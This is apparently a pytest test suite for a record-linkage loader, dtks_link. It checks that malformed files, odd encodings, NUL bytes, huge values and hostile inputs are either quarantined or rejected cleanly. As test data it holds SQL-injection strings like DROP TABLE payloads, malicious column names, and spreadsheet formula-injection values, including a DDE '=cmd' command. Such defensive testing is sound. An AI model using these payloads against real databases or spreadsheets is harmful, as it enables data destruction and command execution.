"""Hostile and broken input: every case either reads (each row kept or quarantined with a
reason) or fails with a DtksLinkError naming the source, the column and, where it applies, the
row. No raw engine exception, no lost row, no SQL run from data."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dtks_link import DtksLinkError, SourceConfig, SourceError
from dtks_link.backends import connect
from dtks_link.sources import MAX_VALUE_LENGTH, load_sources

COLUMNS = {"nik": "NIK", "nama": "NAMA", "tanggal_lahir": "TGL"}
HEADER = "ID,NIK,NAMA,TGL\n"
MEGA = "A" * 1_000_000


@dataclass
class Case:
    """A source file and what must happen when it is read.

    ``rows`` is the number of data rows in the file: read cases must account for each one.
    ``error`` cases must raise it, with every string of ``message`` in the message.
    ``quarantined`` maps row number -> a fragment of the reason that row must carry.
    """

    name: str
    content: str | bytes | Callable[[Path], None]
    rows: int = 0
    suffix: str = ".csv"
    options: dict[str, Any] = field(default_factory=dict)
    error: type[DtksLinkError] | None = None
    message: tuple[str, ...] = ()
    quarantined: dict[int, str] = field(default_factory=dict)
    check: Callable[[pd.DataFrame], None] | None = None


def _excel(frame: pd.DataFrame) -> Callable[[Path], None]:
    return lambda path: frame.to_excel(path, index=False)


def _parquet(frame: pd.DataFrame) -> Callable[[Path], None]:
    return lambda path: frame.to_parquet(path, index=False)


def _values(column: str, *expected: object) -> Callable[[pd.DataFrame], None]:
    def check(rows: pd.DataFrame) -> None:
        assert [None if pd.isna(v) else v for v in rows[column]] == list(expected)

    return check


SQL_VALUE = "'; DROP TABLE mapped; --"
CASES = [
    # -- columns ---------------------------------------------------------------------------
    Case("extra column", HEADER.strip() + ",EXTRA\n1,,ANI,,x\n", rows=1),
    Case(
        "missing column",
        "ID,NIK,TGL\n1,,\n",
        error=SourceError,
        message=("'src'", "'NAMA'", "not in the file"),
    ),
    Case(
        "misnamed column (case)",
        "ID,NIK,nama,TGL\n1,,ANI,\n",
        error=SourceError,
        message=("'src'", "'NAMA'", "did you mean 'nama'"),
    ),
    Case(
        "misnamed id column",
        "KODE,NIK,NAMA,TGL\n1,,ANI,\n",
        error=SourceError,
        message=("'src'", "'ID'", "id_column"),
    ),
    Case(
        "duplicate header names",
        "ID,NIK,NAMA,NAMA,TGL\n1,,ANI,BUDI,\n",
        rows=1,
        check=_values("nama", "ANI"),
    ),
    # -- delimiters, BOM, encodings --------------------------------------------------------
    Case(
        "wrong delimiter",
        "ID;NIK;NAMA;TGL\n1;;ANI;\n",
        options={"delimiter": ","},
        error=SourceError,
        message=("'src'", "'ID'", "delimiter"),
    ),
    Case("semicolon detected", "ID;NIK;NAMA;TGL\n1;;ANI;\n2;;BUDI;\n", rows=2),
    Case("tab delimited", "ID\tNIK\tNAMA\tTGL\n1\t\tANI\t\n", rows=1, options={"delimiter": "\t"}),
    Case("windows line ends", "ID,NIK,NAMA,TGL\r\n1,,ANI,\r\n", rows=1, check=_values("nama", "ANI")),
    Case("BOM", "\ufeffID,NIK,NAMA,TGL\n1,,ANI,\n".encode(), rows=1),
    Case(
        "latin-1 declared",
        (HEADER + "1,,JOSÉ,\n").encode("latin-1"),
        rows=1,
        options={"encoding": "latin-1"},
        check=_values("nama", "JOSÉ"),
    ),
    Case(
        "windows-1252 declared",
        (HEADER + "1,,“JOSÉ”,\n").encode("cp1252"),
        rows=1,
        options={"encoding": "cp1252"},
        check=_values("nama", "“JOSÉ”"),
    ),
    Case(
        "latin-1 read as utf-8: bad row quarantined, rest kept",
        (HEADER + "1,,ADI,\n2,,JOSÉ,\n").encode("latin-1"),
        rows=2,
        quarantined={2: "encoding"},
    ),
    Case(
        "byte undefined in windows-1252",
        HEADER.encode() + b"1,,ADI,\n2,,A\x81B,\n",
        options={"encoding": "cp1252"},
        error=SourceError,
        message=("'src'", "row 2", "cp1252"),
    ),
    Case(
        "utf-16 without BOM",
        HEADER.encode("utf-16-le"),
        options={"encoding": "utf-16"},
        error=SourceError,
        message=("'src'", "utf-16"),
    ),
    Case(
        "binary garbage",
        bytes(range(256)) * 4,
        error=SourceError,
        message=("'src'",),
    ),
    # -- types and Excel damage ------------------------------------------------------------
    Case(
        "mixed types in one column",
        HEADER + "1,3276014107850001,ANI,01-07-1985\n2,abc,BUDI,1990\n3,12.5,CICI,x\n",
        rows=3,
        check=_values("nik", "3276014107850001", "abc", "12.5"),
    ),
    Case(
        "NIK mangled by Excel, as text",
        HEADER + "1,3.27601E+15,ANI,\n2,3276014107850000,BUDI,\n",
        rows=2,
        check=_values("nik", "3.27601E+15", "3276014107850000"),
    ),
    Case(
        "NIK stored as an Excel number",
        _excel(
            pd.DataFrame(
                {"ID": [1, 2], "NIK": [3.27601e15, 3276014107850001], "NAMA": ["A", "B"], "TGL": [None, None]}
            )
        ),
        rows=2,
        suffix=".xlsx",
        check=_values("nik", "3276010000000000", "3276014107850001"),
    ),
    Case(
        "Parquet with numbers, dates and bytes",
        _parquet(
            pd.DataFrame(
                {
                    "ID": [1.0, 2.0],
                    "NIK": [3276014107850001.0, None],
                    "NAMA": [b"ANI", b"\xff\xfe"],
                    "TGL": [pd.Timestamp("1985-07-01"), None],
                }
            )
        ),
        rows=2,
        suffix=".parquet",
        check=_values("record_id", "1", "2"),
    ),
    # -- empty and degenerate files --------------------------------------------------------
    Case("empty file", "", error=SourceError, message=("'src'", "empty")),
    Case("header only", HEADER, rows=0),
    Case("header only, no newline", HEADER.strip(), rows=0),
    Case("blank lines", HEADER + "1,,ANI,\n\n\n2,,BUDI,\n", rows=2),
    Case("only newlines", "\n\n\n", error=SourceError, message=("'src'", "'ID'")),
    Case(
        "broken Excel", b"PK\x03\x04not a zip", suffix=".xlsx", error=SourceError, message=("'src'", "Excel")
    ),
    Case(
        "broken Parquet",
        b"PAR1 not parquet",
        suffix=".parquet",
        error=SourceError,
        message=("'src'", "parquet"),
    ),
    Case(
        "directory instead of a file",
        lambda path: path.mkdir(),
        error=SourceError,
        message=("'src'", "not a file"),
    ),
    # -- big values, NUL bytes -------------------------------------------------------------
    Case(
        "1 MB name",
        HEADER + f"1,,{MEGA},\n2,,BUDI,\n",
        rows=2,
        quarantined={1: f"'NAMA' is longer than {MAX_VALUE_LENGTH}"},
    ),
    Case(
        "3 MB line (beyond DuckDB's default line limit)",
        HEADER + f"1,,{MEGA * 3},\n2,,BUDI,\n3,,CICI,\n",
        rows=3,
        quarantined={1: "longer than"},
    ),
    Case("1 MB unmapped value is harmless", "ID,NIK,NAMA,TGL,X\n" + f"1,,ANI,,{MEGA}\n", rows=1),
    Case(
        "1 MB record id",
        HEADER + f"{'9' * 1_000_000},,ANI,\n2,,BUDI,\n",
        rows=2,
        quarantined={1: "record id in column 'ID' is longer"},
    ),
    Case(
        "NUL byte in a value",
        HEADER.encode() + b"1,,AN\x00I,\n2,,BUDI,\n",
        rows=2,
        quarantined={1: "'NAMA' holds a NUL"},
    ),
    Case(
        "NUL byte in a record id",
        HEADER.encode() + b"1\x002,,ANI,\n2,,BUDI,\n",
        rows=2,
        quarantined={1: "record id in column 'ID' holds a NUL"},
    ),
    Case(
        "NUL byte in a header name",
        b"ID,NIK,NA\x00MA,TGL\n1,,ANI,\n",
        error=SourceError,
        message=("'src'", "'NAMA'"),
    ),
    # -- ids and nulls ---------------------------------------------------------------------
    Case(
        "duplicate and missing record ids",
        HEADER + "1,,ANI,\n1,,ANI LAGI,\n,,TANPA ID,\n  ,,SPASI,\n",
        rows=4,
        quarantined={
            2: "duplicate record id in column 'ID' (first seen at row 1)",
            3: "missing record id",
            4: "missing record id",
        },
    ),
    Case(
        "all-null mapped columns",
        HEADER + "1,,ANI,\n2,,BUDI,\n",
        rows=2,
        check=_values("tanggal_lahir", None, None),
    ),
    Case(
        "nothing to link on",
        HEADER + "1,,,01-01-1990\n",
        rows=1,
        quarantined={1: "nothing to link on"},
    ),
    # -- formulas and SQL lookalikes, kept verbatim as data -----------------------------------
    Case(
        "spreadsheet formulas",
        HEADER
        + '1,,"=HYPERLINK(""http://x.example/?q=""&A1,""klik"")",\n2,,=cmd|\' /C calc\'!A0,\n3,,@SUM(1+1),\n',
        rows=3,
        check=_values(
            "nama", '=HYPERLINK("http://x.example/?q="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)"
        ),
    ),
    Case(
        "SQL in values",
        HEADER + f'"1\'--",,"{SQL_VALUE}",\n2,,`nama`; SELECT 1; --,"\'); DROP TABLE quarantine; --"\n',
        rows=2,
        check=_values("nama", SQL_VALUE, "`nama`; SELECT 1; --"),
    ),
]


def _write(case: Case, tmp_path: Path) -> Path:
    path = tmp_path / f"source{case.suffix}"
    if callable(case.content):
        case.content(path)
    elif isinstance(case.content, bytes):
        path.write_bytes(case.content)
    else:
        path.write_text(case.content, encoding="utf-8")
    return path


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input_reads_or_fails_clearly(case: Case, tmp_path: Path) -> None:
    source = SourceConfig(
        name="src", id_column="ID", columns=COLUMNS, path=_write(case, tmp_path), **case.options
    )
    con = connect()
    objects_before = _objects(con)
    if case.error is not None:
        with pytest.raises(case.error) as info:
            load_sources(con, [source])
        message = str(info.value)
        for fragment in case.message:
            assert fragment in message, message
        assert "\n" not in message and len(message) < 2000  # no engine dump, no copied input line
        return
    loaded = load_sources(con, [source])
    assert _objects(con) == objects_before | {"mapped", "quarantine"}  # nothing left behind
    rows = con.execute("SELECT * FROM mapped ORDER BY row_number").df()
    quarantine = con.execute("SELECT * FROM quarantine ORDER BY row_number").df()
    # every data row is kept or quarantined, once, under its own row number
    assert loaded.rows_read["src"] == case.rows
    numbers = sorted([*rows["row_number"], *quarantine["row_number"]])
    assert numbers == list(range(1, case.rows + 1))
    assert quarantine["reason"].str.len().gt(0).all()
    reasons = dict(zip(quarantine["row_number"], quarantine["reason"], strict=True))
    assert set(reasons) == set(case.quarantined), reasons
    for row, fragment in case.quarantined.items():
        assert fragment in reasons[row], reasons[row]
    if case.check is not None:
        case.check(rows)


def _objects(con: Any) -> set[str]:
    tables = con.execute("SELECT table_name FROM duckdb_tables()").fetchall()
    views = con.execute("SELECT view_name FROM duckdb_views() WHERE NOT internal").fetchall()
    return {str(r[0]) for r in tables + views}


EVIL_NAMES = [
    'NAMA"; DROP TABLE mapped; --',
    "NAMA'); DROP TABLE quarantine; --",
    "`NAMA`",
    "NAMA; SELECT 1",
    "NAMA -- comment",
    "NAMA /* x */",
    "nama\nbaris",
    "$1",
    "?",
]


@pytest.mark.parametrize("column", EVIL_NAMES)
def test_malicious_column_names_in_config_and_file(column: str, tmp_path: Path) -> None:
    path = tmp_path / "evil.csv"
    quoted = '"' + column.replace('"', '""') + '"'
    path.write_text(f'ID,{quoted}\n"1","{SQL_VALUE}"\n"2","x\'"\n', encoding="utf-8")
    con = connect()
    before = _objects(con)
    load_sources(con, [SourceConfig(name="evil", id_column="ID", columns={"nama": column}, path=path)])
    assert con.execute("SELECT nama FROM mapped ORDER BY row_number").fetchall() == [(SQL_VALUE,), ("x'",)]
    assert _objects(con) == before | {"mapped", "quarantine"}


def test_malicious_names_through_the_whole_pipeline(tmp_path: Path) -> None:
    """A full link into a registry with SQL-looking column names, record ids and values: the
    ids come back unchanged and the registry database holds only its own tables."""
    import duckdb

    from dtks_link import LinkageOptions, LinkConfig, link

    rows = []
    for i in range(60):
        record_id = f"{i}'; DROP TABLE reg.records; --"
        name = f"SITI {chr(65 + i % 26)}{chr(65 + i // 26)} {SQL_VALUE if i % 7 == 0 else ''}"
        rows += [{"ID; --": record_id, 'NAMA"': name}, {"ID; --": f"{record_id}`", 'NAMA"': name}]
    frame = pd.DataFrame(rows)
    frame["TGL`"] = "01-01-1990"
    config = LinkConfig(
        sources=(
            SourceConfig(
                name="evil",
                id_column="ID; --",
                columns={"nama": 'NAMA"', "tanggal_lahir": "TGL`"},
                data=frame,
            ),
        ),
        options=LinkageOptions(max_pairs_for_u=1e4, reference_date=pd.Timestamp("2025-06-30").date()),
    )
    registry = tmp_path / "evil.registry"
    result = link(config, write=False, registry=registry)
    assert sorted(result.clusters["record_id"]) == sorted(frame["ID; --"])
    con = duckdb.connect(str(registry), read_only=True)
    try:
        tables = {str(r[0]) for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        views = con.execute("SELECT count(*) FROM duckdb_views() WHERE NOT internal").fetchall()[0][0]
        stored = {str(r[0]) for r in con.execute("SELECT unique_id FROM records").fetchall()}
    finally:
        con.close()
    expected = {"meta", "runs", "records", "edges", "membership", "residents", "events", "quarantine"}
    expected.add("decisions")
    households = {  # the registry's household tables (issue 14)
        "households",
        "household_membership",
        "household_members",
        "household_events",
        "household_golden",
        "household_kks",
        "household_links",
        "household_sources",
        "household_programme_records",
    }
    allowed = expected | households
    unexpected = sorted(t for t in tables if t not in allowed and not t.startswith("tf_"))
    assert expected <= tables and not unexpected, ", ".join(sorted(tables))
    assert views == 0
    assert stored == {f"evil|{record_id}" for record_id in frame["ID; --"]}


_CSV_ALPHABET = st.sampled_from([*"ID,NAMA;|\t\"'\n\r\x00 =-é3276\\`", "\ufeff", "NIK", "ID,NIK,NAMA\n"])


def _read_arbitrary(data: bytes, tmp_path: Path, **options: Any) -> None:
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    source = SourceConfig(
        name="fuzz", id_column="ID", columns={"nama": "NAMA", "nik": "NIK"}, path=path, **options
    )
    con = connect()
    try:
        loaded = load_sources(con, [source])
    except DtksLinkError:
        return
    kept = con.execute("SELECT count(*) FROM mapped").fetchall()[0][0]
    rejected = con.execute("SELECT count(*), count(reason) FROM quarantine").fetchall()[0]
    assert loaded.rows_read["fuzz"] == kept + rejected[0]
    assert rejected[0] == rejected[1]  # every quarantined row has a reason


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=400))
def test_arbitrary_bytes_give_rows_and_quarantine_or_a_source_error(tmp_path: Path, data: bytes) -> None:
    _read_arbitrary(b"ID,NIK,NAMA\n" + data, tmp_path)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=st.lists(_CSV_ALPHABET, max_size=60).map("".join),
    encoding=st.sampled_from(["utf-8", "cp1252", "latin-1", "utf-16"]),
    delimiter=st.sampled_from([None, ",", ";", "|", "\t", '"']),
)
def test_csv_like_text_in_any_encoding_reads_or_fails_clearly(
    tmp_path: Path, text: str, encoding: str, delimiter: str | None
) -> None:
    data = text.encode(encoding, errors="replace")
    _read_arbitrary(data, tmp_path, encoding=encoding, delimiter=delimiter)
